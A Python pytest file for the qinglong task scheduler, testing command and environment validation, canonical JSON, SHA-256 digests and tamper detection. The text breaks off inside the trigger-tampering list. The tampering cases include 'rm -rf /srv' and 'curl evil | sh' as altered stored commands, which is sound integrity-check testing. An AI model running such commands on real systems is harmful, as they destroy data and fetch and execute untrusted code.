"""Task and trigger specs, revisions, canonical JSON and SHA-256 content digests."""

from __future__ import annotations

import copy
import hashlib
import json
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest

from qinglong.domain.canonical import (
    canonical_json,
    content_digest,
    parse_json_object,
    verify_digest,
)
from qinglong.domain.cron import CronSchedule
from qinglong.domain.task import (
    DEFAULT_TIMEOUT_MS,
    ArgvCommand,
    CommandSpec,
    EnvEntry,
    ExecutionRevision,
    ExecutorType,
    ShellCommand,
    TaskRevision,
    compile_execution_revision,
    execution_revision_from_row,
    new_task_revision,
    parse_task_envelope,
    plan_json_text,
    spec_json_text,
    task_revision_from_row,
)
from qinglong.domain.trigger import (
    CronTriggerSpec,
    MisfirePolicy,
    TriggerRevision,
    new_trigger_revision,
    trigger_revision_from_row,
)
from qinglong.errors import InvalidInput, InvalidSchedule, RecordCorrupt

KIB = 1024
DAY_MS = 24 * 3600 * 1000
CREATED = 1_767_225_600_000  # 2026-01-01T00:00:00Z


def invalid(field: str, fragment: str = "") -> Callable[[Callable[[], object]], InvalidInput]:
    """Run ``make`` and check it raises InvalidInput on ``field`` mentioning ``fragment``."""

    def check(make: Callable[[], object]) -> InvalidInput:
        with pytest.raises(InvalidInput) as info:
            make()
        assert info.value.field == field, info.value.message
        assert fragment in info.value.rule, info.value.message
        return info.value

    return check


# --- ArgvCommand --------------------------------------------------------------------------


def test_argv_command_accepts_an_absolute_file_and_arguments() -> None:
    command = ArgvCommand(file="/usr/bin/env", args=("python3", "-c", "print('x y')", ""))
    assert command.argv() == ["/usr/bin/env", "python3", "-c", "print('x y')", ""]
    assert command.to_json() == {
        "kind": "argv",
        "file": "/usr/bin/env",
        "args": ["python3", "-c", "print('x y')", ""],
    }


@pytest.mark.parametrize(
    ("file", "fragment"),
    [
        ("bin/echo", "absolute path"),
        ("./echo", "absolute path"),
        ("~/bin/echo", "absolute path"),
        ("echo", "absolute path"),
        ("", "must not be empty"),
        ("/bin/ec\x00ho", "NUL"),
        (None, "must be a string"),
        (b"/bin/echo", "must be a string"),
        ("/" + "a" * 4096, "at most 4096 bytes"),
        ("/" + "é" * 2048, "at most 4096 bytes"),  # 2049 characters, 4097 bytes
    ],
    ids=["relative", "dot", "tilde", "bare", "empty", "nul", "none", "bytes", "4097-bytes",
         "4097-utf8-bytes"],
)
def test_argv_command_file_rules(file: object, fragment: str) -> None:
    invalid("command.file", fragment)(lambda: ArgvCommand(file=file))  # type: ignore[arg-type]


def test_argv_command_file_of_exactly_4096_bytes_is_accepted() -> None:
    assert ArgvCommand(file="/" + "a" * 4095).file.startswith("/a")


def test_argv_command_argument_count_limit() -> None:
    assert len(ArgvCommand(file="/bin/echo", args=("x",) * 256).args) == 256
    invalid("command.args", "at most 256")(lambda: ArgvCommand(file="/bin/echo", args=("x",) * 257))


@pytest.mark.parametrize(
    ("args", "field", "fragment"),
    [
        (("ok", "b\x00d"), "command.args[1]", "NUL"),
        ((5,), "command.args[0]", "must be a string"),
        (("ok", None), "command.args[1]", "must be a string"),
    ],
    ids=["nul", "int", "none"],
)
def test_argv_command_argument_rules(args: tuple[object, ...], field: str, fragment: str) -> None:
    invalid(field, fragment)(lambda: ArgvCommand(file="/bin/echo", args=args))  # type: ignore[arg-type]


def test_argv_command_total_size_counts_utf8_bytes_of_file_and_args() -> None:
    # file "/x" is 2 bytes; the limit is 64 KiB in total.
    assert ArgvCommand(file="/x", args=("a" * (64 * KIB - 2),)).argv() == ["/x", "a" * (64 * KIB - 2)]
    too_big = "a" * (64 * KIB - 1)
    invalid("command", "65536 bytes in total")(lambda: ArgvCommand(file="/x", args=(too_big,)))
    # split over several arguments
    split = ("a" * (32 * KIB), "b" * (32 * KIB - 2))
    assert ArgvCommand(file="/x", args=split).args == split
    halves = ("a" * (32 * KIB), "b" * (32 * KIB - 1))
    invalid("command")(lambda: ArgvCommand(file="/x", args=halves))
    # 'é' is 2 bytes: 32767 of them plus the file is exactly 64 KiB, one more is too much
    assert ArgvCommand(file="/x", args=("é" * (32 * KIB - 1),)).args == ("é" * (32 * KIB - 1),)
    invalid("command")(lambda: ArgvCommand(file="/x", args=("é" * (32 * KIB),)))


# --- ShellCommand -------------------------------------------------------------------------


@pytest.mark.parametrize("shell", ["/bin/sh", "/bin/bash"])
def test_shell_command_allows_only_sh_and_bash(shell: str) -> None:
    command = ShellCommand(command="echo hi && exit 3", shell=shell)
    assert command.argv() == [shell, "-c", "echo hi && exit 3"]
    assert command.to_json() == {"kind": "shell", "command": "echo hi && exit 3", "shell": shell}


def test_shell_command_defaults_to_bin_sh() -> None:
    assert ShellCommand(command="true").argv() == ["/bin/sh", "-c", "true"]


@pytest.mark.parametrize(
    "shell",
    ["/bin/zsh", "/bin/dash", "/usr/bin/bash", "/usr/bin/sh", "bash", "sh", "/bin/sh ",
     "/bin/bash -e", "/BIN/SH", "", "/bin/sh\x00"],
)
def test_shell_command_refuses_other_shells(shell: str) -> None:
    invalid("command.shell", "/bin/sh or /bin/bash")(
        lambda: ShellCommand(command="true", shell=shell)
    )


@pytest.mark.parametrize(
    ("command", "fragment"),
    [("", "must not be empty"), ("   \n\t", "must not be blank"), ("echo \x00", "NUL"),
     (None, "must be a string"), ("x" * (64 * KIB + 1), "at most 65536 bytes"),
     ("é" * (32 * KIB) + "x", "at most 65536 bytes")],
    ids=["empty", "blank", "nul", "none", "64KiB+1", "64KiB+1-utf8"],
)
def test_shell_command_text_rules(command: object, fragment: str) -> None:
    invalid("command.command", fragment)(lambda: ShellCommand(command=command))  # type: ignore[arg-type]


def test_shell_command_of_exactly_64_kib_is_accepted() -> None:
    assert ShellCommand(command="x" * (64 * KIB)).command == "x" * (64 * KIB)
    assert ShellCommand(command="é" * (32 * KIB)).command == "é" * (32 * KIB)


# --- EnvEntry -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["A", "_", "a1", "PATH", "Foo_Bar", "_QL_X", "QLX", "XQL_", "Q_L", "A" * 128]
)
def test_env_names_that_are_accepted(name: str) -> None:
    assert EnvEntry(name=name, value="v").name == name


@pytest.mark.parametrize(
    "name",
    ["", "1A", "A-B", "A B", "A=B", "A.B", "É", "ÄRGER", "A" * 129, " A", "A\tB", None, 7],
    ids=repr,
)
def test_env_names_that_are_invalid(name: object) -> None:
    invalid("environment", "must match")(lambda: EnvEntry(name=name, value="v"))  # type: ignore[arg-type]


def test_env_name_with_a_trailing_newline_is_invalid() -> None:
    invalid("environment", "must match")(lambda: EnvEntry(name="FOO\n", value="v"))


@pytest.mark.parametrize("name", ["QL_", "QL_RUN_ID", "ql_token", "Ql_x", "qL_x"])
def test_env_names_with_the_reserved_prefix_are_refused(name: str) -> None:
    invalid("environment", "reserved prefix QL_")(lambda: EnvEntry(name=name, value="v"))


def test_env_values() -> None:
    assert EnvEntry(name="A", value="").value == ""
    assert EnvEntry(name="A", value="x=y; $(z)\n").value == "x=y; $(z)\n"
    invalid("environment.SECRET", "NUL")(lambda: EnvEntry(name="SECRET", value="a\x00b"))
    invalid("environment.N", "must be a string")(lambda: EnvEntry(name="N", value=5))  # type: ignore[arg-type]


# --- CommandSpec --------------------------------------------------------------------------

ECHO = ArgvCommand(file="/bin/echo", args=("hello",))


def env(*pairs: tuple[str, str]) -> tuple[EnvEntry, ...]:
    return tuple(EnvEntry(name=n, value=v) for n, v in pairs)


def test_command_spec_defaults() -> None:
    spec = CommandSpec(command=ECHO)
    assert spec.timeout_ms == DEFAULT_TIMEOUT_MS == 3_600_000
    assert spec.environment == ()
    assert spec.working_directory is None
    assert spec.config_json() == {
        "command": {"kind": "argv", "file": "/bin/echo", "args": ["hello"]},
        "environment": [],
        "timeoutMs": 3_600_000,
    }
    assert spec.envelope() == {"schema": "qinglong/command@v1", "config": spec.config_json()}


def test_environment_is_sorted_by_name() -> None:
    given = env(("b", "1"), ("B", "2"), ("_a", "3"), ("A", "4"), ("a", "5"))
    spec = CommandSpec(command=ECHO, environment=given)
    # code point order: 'A' < 'B' < '_' < 'a' < 'b'
    assert [e.name for e in spec.environment] == ["A", "B", "_a", "a", "b"]
    assert [e["name"] for e in spec.config_json()["environment"]] == ["A", "B", "_a", "a", "b"]  # type: ignore[index, union-attr]
    assert spec == CommandSpec(command=ECHO, environment=tuple(sorted(given, key=lambda e: e.name)))


def test_environment_duplicates_are_refused_but_case_matters() -> None:
    invalid("environment", "'A' is given more than once")(
        lambda: CommandSpec(command=ECHO, environment=env(("A", "1"), ("B", "2"), ("A", "1")))
    )
    assert len(CommandSpec(command=ECHO, environment=env(("A", "1"), ("a", "2"))).environment) == 2


def test_environment_entry_count_limit() -> None:
    entries = tuple(EnvEntry(name=f"V{i:03d}", value="") for i in range(257))
    assert len(CommandSpec(command=ECHO, environment=entries[:256]).environment) == 256
    invalid("environment", "at most 256 entries")(
        lambda: CommandSpec(command=ECHO, environment=entries)
    )


def test_environment_total_size_counts_names_and_values_in_utf8_bytes() -> None:
    whole = CommandSpec(command=ECHO, environment=env(("A", "x" * (64 * KIB - 1))))
    assert whole.environment[0].value == "x" * (64 * KIB - 1)
    invalid("environment", "65536 bytes")(
        lambda: CommandSpec(command=ECHO, environment=env(("A", "x" * (64 * KIB))))
    )
    half = 32 * KIB - 1
    two = CommandSpec(command=ECHO, environment=env(("A", "x" * half), ("B", "y" * half)))
    assert [len(entry.value) for entry in two.environment] == [half, half]
    invalid("environment")(
        lambda: CommandSpec(
            command=ECHO, environment=env(("A", "x" * half), ("B", "y" * (half + 1)))
        )
    )
    two_byte = env(("A", "é" * (32 * KIB)))  # 1 + 65536 bytes
    invalid("environment")(lambda: CommandSpec(command=ECHO, environment=two_byte))


@pytest.mark.parametrize(
    ("directory", "fragment"),
    [("srv/app", "absolute path"), ("", "must not be empty"), ("/srv\x00", "NUL"),
     ("/" + "d" * 4096, "at most 4096 bytes")],
    ids=["relative", "empty", "nul", "too-long"],
)
def test_working_directory_rules(directory: str, fragment: str) -> None:
    invalid("working-directory", fragment)(
        lambda: CommandSpec(command=ECHO, working_directory=directory)
    )


def test_working_directory_appears_in_the_config_only_when_set() -> None:
    spec = CommandSpec(command=ECHO, working_directory="/srv/app")
    assert spec.config_json()["workingDirectory"] == "/srv/app"
    assert "workingDirectory" not in CommandSpec(command=ECHO).config_json()


@pytest.mark.parametrize("timeout", [1, 1000, 365 * DAY_MS])
def test_timeout_bounds_accepted(timeout: int) -> None:
    assert CommandSpec(command=ECHO, timeout_ms=timeout).timeout_ms == timeout


@pytest.mark.parametrize(
    "timeout", [0, -1, 365 * DAY_MS + 1, True, False, 1.5, 60_000.0, "60000", None], ids=repr
)
def test_timeout_out_of_bounds_or_not_an_int(timeout: object) -> None:
    invalid("timeout", "between 1 ms and 365 days")(
        lambda: CommandSpec(command=ECHO, timeout_ms=timeout)  # type: ignore[arg-type]
    )


# --- parse_task_envelope ------------------------------------------------------------------

FULL_SPEC = CommandSpec(
    command=ArgvCommand(file="/usr/bin/env", args=("python3", "-c", "print(1)")),
    environment=env(("LANG", "C.UTF-8"), ("APP_MODE", "nightly")),
    working_directory="/srv/app",
    timeout_ms=90_000,
)
SHELL_SPEC = CommandSpec(command=ShellCommand(command="tar czf /tmp/b.tgz /srv", shell="/bin/bash"))


@pytest.mark.parametrize(
    "spec", [FULL_SPEC, SHELL_SPEC, CommandSpec(command=ECHO)], ids=["argv", "shell", "min"]
)
def test_envelopes_round_trip(spec: CommandSpec) -> None:
    assert parse_task_envelope(spec.envelope()) == spec
    assert parse_task_envelope(json.loads(spec_json_text(spec))) == spec


def _envelope() -> dict[str, Any]:
    return json.loads(spec_json_text(FULL_SPEC))


def _mutated(change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    envelope = _envelope()
    change(envelope)
    return envelope


ENVELOPE_ERRORS = [
    ("no-schema", lambda e: e.pop("schema"), "spec", "missing key 'schema'"),
    ("no-config", lambda e: e.pop("config"), "spec", "missing key 'config'"),
    ("extra-top-key", lambda e: e.update(version=1), "spec", "unknown key 'version'"),
    ("wrong-schema", lambda e: e.update(schema="qinglong/command@v2"), "spec.schema", "only"),
    ("config-not-object", lambda e: e.update(config=[]), "spec.config", "must be an object"),
    ("no-command", lambda e: e["config"].pop("command"), "spec.config", "missing key 'command'"),
    ("no-environment", lambda e: e["config"].pop("environment"), "spec.config",
     "missing key 'environment'"),
    ("no-timeout", lambda e: e["config"].pop("timeoutMs"), "spec.config",
     "missing key 'timeoutMs'"),
    ("extra-config-key", lambda e: e["config"].update(timeout=5), "spec.config",
     "unknown key 'timeout'"),
    ("snake-case-key", lambda e: e["config"].update(working_directory="/x"), "spec.config",
     "unknown key 'working_directory'"),
    ("argv-without-args", lambda e: e["config"]["command"].pop("args"), "command",
     "missing key 'args'"),
    ("argv-with-shell", lambda e: e["config"]["command"].update(shell="/bin/sh"), "command",
     "unknown key 'shell'"),
    ("argv-args-not-list", lambda e: e["config"]["command"].update(args="a b"), "command.args",
     "list"),
    ("shell-without-shell", lambda e: e["config"].update(command={"kind": "shell", "command": "x"}),
     "command", "missing key 'shell'"),
    ("shell-extra-key", lambda e: e["config"].update(
        command={"kind": "shell", "command": "x", "shell": "/bin/sh", "args": []}),
     "command", "unknown key 'args'"),
    ("unknown-kind", lambda e: e["config"]["command"].update(kind="exec"), "command.kind", "argv"),
    ("no-kind", lambda e: e["config"]["command"].pop("kind"), "command.kind", "argv"),
    ("command-not-object", lambda e: e["config"].update(command="echo"), "command", "object"),
    ("environment-not-list", lambda e: e["config"].update(environment={"A": "1"}), "environment",
     "list"),
    ("env-entry-not-object", lambda e: e["config"].update(environment=["A=1"]), "environment",
     "objects"),
    ("env-entry-extra-key", lambda e: e["config"]["environment"][0].update(secret=True),
     "environment", "unknown key 'secret'"),
    ("env-entry-no-value", lambda e: e["config"]["environment"][0].pop("value"), "environment",
     "missing key 'value'"),
    ("timeout-bool", lambda e: e["config"].update(timeoutMs=True), "timeout", "integer"),
    ("timeout-float", lambda e: e["config"].update(timeoutMs=90_000.0), "timeout", "integer"),
    ("timeout-string", lambda e: e["config"].update(timeoutMs="90000"), "timeout", "integer"),
    ("timeout-zero", lambda e: e["config"].update(timeoutMs=0), "timeout", "between"),
    ("relative-file", lambda e: e["config"]["command"].update(file="env"), "command.file",
     "absolute"),
    ("reserved-env", lambda e: e["config"]["environment"][0].update(name="QL_X"), "environment",
     "reserved"),
]


@pytest.mark.parametrize(
    ("change", "field", "fragment"),
    [c[1:] for c in ENVELOPE_ERRORS],
    ids=[c[0] for c in ENVELOPE_ERRORS],
)
def test_parse_task_envelope_enforces_the_exact_shape(
    change: Callable[[dict[str, Any]], None], field: str, fragment: str
) -> None:
    invalid(field, fragment)(lambda: parse_task_envelope(_mutated(change)))


def test_parse_task_envelope_refuses_non_objects() -> None:
    for value in (None, [], "spec", 5):
        invalid("spec", "object")(lambda v=value: parse_task_envelope(v))


def test_working_directory_is_optional_in_the_envelope() -> None:
    envelope = _mutated(lambda e: e["config"].pop("workingDirectory"))
    assert parse_task_envelope(envelope).working_directory is None


# --- task revisions and digests -------------------------------------------------------------

TASK_KWARGS: dict[str, Any] = {
    "project": "demo",
    "task": "backup",
    "revision": 1,
    "name": "Nightly backup",
    "spec": CommandSpec(command=ShellCommand(command="tar czf /tmp/b.tgz /srv"), timeout_ms=60_000),
    "enabled": True,
    "created_at_ms": CREATED,
}


def make_task(**changes: Any) -> TaskRevision:
    return new_task_revision(**{**TASK_KWARGS, **changes})


TASK_JSON = (
    '{"enabled":true,"kind":"command","name":"Nightly backup","projectId":"demo","revision":1,'
    '"spec":{"config":{"command":{"command":"tar czf /tmp/b.tgz /srv","kind":"shell",'
    '"shell":"/bin/sh"},"environment":[],"timeoutMs":60000},"schema":"qinglong/command@v1"},'
    '"taskId":"backup"}'
)


def sha256_hex(prefix: str, text: str) -> str:
    return hashlib.sha256(prefix.encode() + b"\x00" + text.encode()).hexdigest()


def test_task_digest_is_sha256_over_the_prefix_and_the_canonical_json() -> None:
    task = make_task()
    assert task.content_digest == sha256_hex("qinglong.task-definition.v1", TASK_JSON)
    assert canonical_json(task.content()) == TASK_JSON


def test_same_content_gives_the_same_digest() -> None:
    assert make_task().content_digest == make_task().content_digest
    # created_at is not content
    assert make_task(created_at_ms=CREATED + 1).content_digest == make_task().content_digest
    # environment order does not matter: it is sorted
    a = make_task(spec=CommandSpec(command=ECHO, environment=env(("A", "1"), ("B", "2"))))
    b = make_task(spec=CommandSpec(command=ECHO, environment=env(("B", "2"), ("A", "1"))))
    assert a.content_digest == b.content_digest


def tar_spec(**changes: Any) -> CommandSpec:
    """The spec of TASK_KWARGS, with ``changes``."""
    fields: dict[str, Any] = {
        "command": ShellCommand(command="tar czf /tmp/b.tgz /srv"),
        "timeout_ms": 60_000,
    }
    return CommandSpec(**{**fields, **changes})


TASK_VARIANTS: dict[str, dict[str, Any]] = {
    "project": {"project": "demo2"},
    "task": {"task": "backup2"},
    "revision": {"revision": 2},
    "name": {"name": "Nightly backup!"},
    "enabled": {"enabled": False},
    "timeout": {"spec": tar_spec(timeout_ms=60_001)},
    "command-text": {"spec": tar_spec(command=ShellCommand(command="tar czf /tmp/c.tgz /srv"))},
    "shell": {
        "spec": tar_spec(command=ShellCommand(command="tar czf /tmp/b.tgz /srv", shell="/bin/bash"))
    },
    "argv-same-words": {
        "spec": tar_spec(
            command=ArgvCommand(file="/bin/sh", args=("-c", "tar czf /tmp/b.tgz /srv"))
        )
    },
    "working-directory": {"spec": tar_spec(working_directory="/")},
    "env-added": {"spec": tar_spec(environment=env(("A", "1")))},
    "env-value": {"spec": tar_spec(environment=env(("A", "2")))},
    "env-name": {"spec": tar_spec(environment=env(("B", "1")))},
}


def test_any_content_change_changes_the_digest() -> None:
    digests = {"base": make_task().content_digest}
    for label, change in TASK_VARIANTS.items():
        digests[label] = make_task(**change).content_digest
    assert len(set(digests.values())) == len(digests), digests


def test_same_definition_ignores_only_the_revision_number() -> None:
    assert make_task().same_definition(make_task(revision=7))
    assert not make_task().same_definition(make_task(name="Other"))
    assert not make_task().same_definition(make_task(enabled=False))


@pytest.mark.parametrize(
    ("changes", "field"),
    [({"project": "Demo"}, "project"), ({"project": "-demo"}, "project"),
     ({"task": "back up"}, "task"), ({"task": "backup."}, "task"),
     ({"revision": 0}, "revision"), ({"revision": 2**31}, "revision"),
     ({"revision": True}, "revision"), ({"name": ""}, "name"), ({"name": "a" * 256}, "name"),
     ({"name": "tab\there"}, "name")],
    ids=["project-upper", "project-dash", "task-space", "task-dot", "revision-0",
         "revision-2^31", "revision-bool", "name-empty", "name-256", "name-control"],
)
def test_new_task_revision_validates_identity(changes: dict[str, Any], field: str) -> None:
    invalid(field)(lambda: make_task(**changes))


def test_revision_bounds_inclusive() -> None:
    assert make_task(revision=2**31 - 1).revision == 2**31 - 1
    assert make_task(name="a" * 255).name == "a" * 255


@pytest.mark.parametrize(
    ("changes", "field"),
    [({"project": "demo\n"}, "project"), ({"task": "backup\n"}, "task")],
    ids=["project", "task"],
)
def test_identifiers_with_a_trailing_newline_are_refused(
    changes: dict[str, Any], field: str
) -> None:
    invalid(field)(lambda: make_task(**changes))


def task_row(task: TaskRevision) -> tuple[dict[str, object], dict[str, Any]]:
    row: dict[str, object] = {
        "project_id": task.project_id,
        "task_id": task.task_id,
        "revision": task.revision,
        "name": task.name,
        "kind": task.kind,
        "enabled": 1 if task.enabled else 0,
        "content_digest": task.content_digest,
        "created_at_ms": task.created_at_ms,
    }
    return row, json.loads(spec_json_text(task.spec))


def _flip_last_hex(digest: str) -> str:
    return digest[:-1] + ("0" if digest[-1] != "0" else "1")


def test_task_row_round_trips() -> None:
    for task in (make_task(), make_task(spec=FULL_SPEC, enabled=False, revision=3)):
        row, envelope = task_row(task)
        assert task_revision_from_row(row, envelope) == task


TASK_TAMPERING: list[tuple[str, Callable[[dict[str, object], dict[str, Any]], None]]] = [
    ("digest", lambda r, e: r.update(content_digest=_flip_last_hex(str(r["content_digest"])))),
    ("digest-upper-case", lambda r, e: r.update(content_digest=str(r["content_digest"]).upper())),
    ("digest-empty", lambda r, e: r.update(content_digest="")),
    ("name", lambda r, e: r.update(name="Nightly backup (edited)")),
    ("enabled", lambda r, e: r.update(enabled=0)),
    ("revision", lambda r, e: r.update(revision=2)),
    ("project", lambda r, e: r.update(project_id="other")),
    ("task", lambda r, e: r.update(task_id="other")),
    ("kind", lambda r, e: r.update(kind="script")),
    ("spec-timeout", lambda r, e: e["config"].update(timeoutMs=60_001)),
    ("spec-command", lambda r, e: e["config"]["command"].update(command="rm -rf /srv")),
    ("spec-shell", lambda r, e: e["config"]["command"].update(shell="/bin/bash")),
    ("spec-env-added", lambda r, e: e["config"].update(environment=[{"name": "A", "value": "1"}])),
    ("spec-malformed", lambda r, e: e["config"].pop("timeoutMs")),
    ("spec-unknown-key", lambda r, e: e.update(extra=True)),
    ("spec-schema", lambda r, e: e.update(schema="qinglong/command@v0")),
    ("spec-invalid-value", lambda r, e: e["config"]["command"].update(shell="/bin/zsh")),
]


@pytest.mark.parametrize(
    "tamper", [t[1] for t in TASK_TAMPERING], ids=[t[0] for t in TASK_TAMPERING]
)
def test_tampered_task_rows_are_record_corrupt(
    tamper: Callable[[dict[str, object], dict[str, Any]], None],
) -> None:
    row, envelope = task_row(make_task())
    tamper(row, envelope)
    with pytest.raises(RecordCorrupt):
        task_revision_from_row(row, envelope)


# --- execution revisions ------------------------------------------------------------------


def make_execution(
    task: TaskRevision | None = None, executor: ExecutorType = ExecutorType.LOCAL_PROCESS
) -> ExecutionRevision:
    return compile_execution_revision(task or make_task(), executor, CREATED + 5)


def test_compile_execution_revision_references_the_task_revision() -> None:
    task = make_task(revision=4)
    execution = make_execution(task)
    assert execution.task_revision == f"qltd:v1:4:{task.content_digest}"
    assert execution.source_revision == 4
    assert execution.source_content_digest == task.content_digest
    assert execution.project_id == "demo" and execution.task_id == "backup"
    assert execution.plan == task.spec
    assert execution.plan_schema == "qinglong/command-execution@v1"
    assert execution.argv() == ["/bin/sh", "-c", "tar czf /tmp/b.tgz /srv"]
    assert execution.created_at_ms == CREATED + 5


def test_execution_digest_is_sha256_over_the_canonical_content() -> None:
    task = make_task()
    digest = task.content_digest
    expected_json = (
        '{"executorType":"local_process","plan":{"command":{"command":"tar czf /tmp/b.tgz /srv",'
        '"kind":"shell","shell":"/bin/sh"},"environment":[],"timeoutMs":60000},'
        '"planSchema":"qinglong/command-execution@v1","projectId":"demo",'
        f'"sourceContentDigest":"{digest}","sourceRevision":1,"taskId":"backup",'
        f'"taskRevision":"qltd:v1:1:{digest}"}}'
    )
    assert make_execution(task).content_digest == sha256_hex(
        "qinglong.task-execution-revision.v1", expected_json
    )


def test_execution_digests_differ_by_executor_and_by_task_content() -> None:
    digests = {
        make_execution().content_digest,
        make_execution(executor=ExecutorType.REMOTE_WORKER).content_digest,
        make_execution(make_task(revision=2)).content_digest,
        make_execution(make_task(spec=FULL_SPEC)).content_digest,
    }
    assert len(digests) == 4
    # created_at is not content
    again = compile_execution_revision(make_task(), ExecutorType.LOCAL_PROCESS, CREATED + 99)
    assert again.content_digest == make_execution().content_digest


def execution_row(execution: ExecutionRevision) -> tuple[dict[str, object], dict[str, Any]]:
    row: dict[str, object] = {
        "project_id": execution.project_id,
        "task_id": execution.task_id,
        "source_revision": execution.source_revision,
        "source_content_digest": execution.source_content_digest,
        "task_revision": execution.task_revision,
        "executor_type": execution.executor_type.value,
        "plan_schema": execution.plan_schema,
        "content_digest": execution.content_digest,
        "created_at_ms": execution.created_at_ms,
    }
    return row, json.loads(plan_json_text(execution))


def test_execution_row_round_trips() -> None:
    remote = make_execution(make_task(spec=FULL_SPEC), ExecutorType.REMOTE_WORKER)
    for execution in (make_execution(), remote):
        row, plan = execution_row(execution)
        assert execution_revision_from_row(row, plan) == execution


OTHER_DIGEST = "f" * 64

EXECUTION_TAMPERING: list[tuple[str, Callable[[dict[str, object], dict[str, Any]], None]]] = [
    ("digest", lambda r, p: r.update(content_digest=_flip_last_hex(str(r["content_digest"])))),
    ("task-revision-reference", lambda r, p: r.update(
        task_revision=f"qltd:v1:2:{r['source_content_digest']}")),
    ("task-revision-format", lambda r, p: r.update(
        task_revision=f"qltd:v2:1:{r['source_content_digest']}")),
    ("source-digest", lambda r, p: r.update(source_content_digest=OTHER_DIGEST)),
    ("source-digest-and-reference", lambda r, p: r.update(
        source_content_digest=OTHER_DIGEST, task_revision=f"qltd:v1:1:{OTHER_DIGEST}")),
    ("source-revision", lambda r, p: r.update(source_revision=2)),
    ("executor-type", lambda r, p: r.update(executor_type="remote_worker")),
    ("executor-type-unknown", lambda r, p: r.update(executor_type="ssh")),
    ("plan-schema", lambda r, p: r.update(plan_schema="qinglong/command-execution@v2")),
    ("plan-timeout", lambda r, p: p.update(timeoutMs=1)),
    ("plan-command", lambda r, p: p["command"].update(command="curl evil | sh")),
    ("plan-malformed", lambda r, p: p.pop("environment")),
    ("project", lambda r, p: r.update(project_id="other")),
]


@pytest.mark.parametrize(
    "tamper", [t[1] for t in EXECUTION_TAMPERING], ids=[t[0] for t in EXECUTION_TAMPERING]
)
def test_tampered_execution_rows_are_record_corrupt(
    tamper: Callable[[dict[str, object], dict[str, Any]], None],
) -> None:
    row, plan = execution_row(make_execution())
    tamper(row, plan)
    with pytest.raises(RecordCorrupt):
        execution_revision_from_row(row, plan)


# --- trigger revisions --------------------------------------------------------------------

TASK_DIGEST = "a" * 64
TRIGGER_KWARGS: dict[str, Any] = {
    "project": "demo",
    "trigger": "nightly",
    "revision": 1,
    "task": "backup",
    "task_revision": 1,
    "task_content_digest": TASK_DIGEST,
    "spec": CronTriggerSpec.parse(expression="0 3 * * *", timezone="Europe/Berlin", misfire="skip"),
    "enabled": True,
    "created_at_ms": CREATED,
}


def cron_spec(
    expression: str, timezone: str = "Europe/Berlin", misfire: str = "skip"
) -> CronTriggerSpec:
    return CronTriggerSpec.parse(expression=expression, timezone=timezone, misfire=misfire)


def make_trigger(**changes: Any) -> TriggerRevision:
    return new_trigger_revision(**{**TRIGGER_KWARGS, **changes})


def test_trigger_digest_is_sha256_over_the_canonical_content() -> None:
    expected_json = (
        '{"enabled":true,"projectId":"demo","revision":1,"spec":{"config":{"expression":'
        '"0 3 * * *","misfirePolicy":"skip","timezone":"Europe/Berlin"},'
        '"schema":"qinglong/cron@v1"},'
        f'"taskContentDigest":"{TASK_DIGEST}","taskId":"backup","taskRevision":1,'
        '"triggerId":"nightly"}'
    )
    expected = sha256_hex("qinglong.trigger-definition.v1", expected_json)
    assert make_trigger().content_digest == expected


def test_trigger_spec_is_stored_canonically() -> None:
    spec = CronTriggerSpec.parse(
        expression=" 0  3 * * mon ", timezone="US/Eastern", misfire="fire_once"
    )
    assert spec.envelope() == {
        "schema": "qinglong/cron@v1",
        "config": {"expression": "0 3 * * MON", "timezone": "America/New_York",
                   "misfirePolicy": "fire_once"},
    }


def test_trigger_digests() -> None:
    base = make_trigger().content_digest
    assert make_trigger().content_digest == base
    assert make_trigger(created_at_ms=0).content_digest == base
    # the same schedule spelt differently is the same content after normalisation
    respelt = cron_spec("0  3 * * *")
    assert make_trigger(spec=respelt).content_digest == base
    variants = [
        {"project": "demo2"},
        {"trigger": "nightly2"},
        {"revision": 2},
        {"task": "backup2"},
        {"task_revision": 2},
        {"task_content_digest": "b" * 64},
        {"enabled": False},
        {"spec": cron_spec("0 4 * * *")},
        {"spec": cron_spec("0 3 * * *", timezone="Europe/Paris")},
        {"spec": cron_spec("0 3 * * *", misfire="fire_once")},
        {"spec": cron_spec("0 0 3 * * *")},
    ]
    digests = [base] + [make_trigger(**v).content_digest for v in variants]
    assert len(set(digests)) == len(digests)


def trigger_row(trigger: TriggerRevision) -> tuple[dict[str, object], dict[str, Any]]:
    row: dict[str, object] = {
        "project_id": trigger.project_id,
        "trigger_id": trigger.trigger_id,
        "revision": trigger.revision,
        "task_id": trigger.task_id,
        "task_revision": trigger.task_revision,
        "task_content_digest": trigger.task_content_digest,
        "enabled": 1 if trigger.enabled else 0,
        "content_digest": trigger.content_digest,
        "created_at_ms": trigger.created_at_ms,
    }
    return row, json.loads(trigger.spec.json_text())


def test_trigger_row_round_trips() -> None:
    trigger = make_trigger()
    row, envelope = trigger_row(trigger)
    assert trigger_revision_from_row(row, envelope) == trigger


@pytest.mark.parametrize(("expression", "timezone"), [
    ("0 3 * * *", "PST8PDT"),  # a zone an older release accepted and we now refuse
    ("0 0 1-31/40 * *", "UTC"),  # a step we now refuse at publish time
])
def test_a_revision_published_under_older_rules_stays_readable(expression: str,
                                                               timezone: str) -> None:
    with pytest.raises(InvalidSchedule):
        CronSchedule.parse(expression, timezone)
    old = make_trigger(spec=CronTriggerSpec(schedule=CronSchedule(expression, timezone),
                                            misfire_policy=MisfirePolicy.SKIP))
    row, envelope = trigger_row(old)
    restored = trigger_revision_from_row(row, envelope)
    assert restored == old
    assert restored.spec.schedule.next_after(0) > 0


TRIGGER_TAMPERING: list[tuple[str, Callable[[dict[str, object], dict[str, Any]], None]]] = [
    ("digest", lambda r, e: r.update(content_digest=_flip_last_hex(str(r["content_digest"])))),
    ("enabled", lambda r, e: r.update(enabled=0)),
    ("revision", lambda r, e: r.update(revision=2)),
    ("task", lambda r, e: r.update(task_id="other")),
    ("task-revision", lambda r, e: r.update(task_revision=2)),
    ("task-digest", lambda r, e: r.update(task_content_digest="b" * 64)),
    ("expression", lambda r, e: e["config"].update(expression="0 4 * * *")),
    ("timezone", lambda r, e: e["config"].update(timezone="Europe/Paris")),
    ("misfire", lambda r, e: e["config"].update(misfirePolicy="fire_once")),
    ("expression-not-canonical", lambda r, e: e["config"].update(expression="0  3 * * *")),
    ("timezone-alias", lambda r, e: e["config"].update(timezone="CET")),
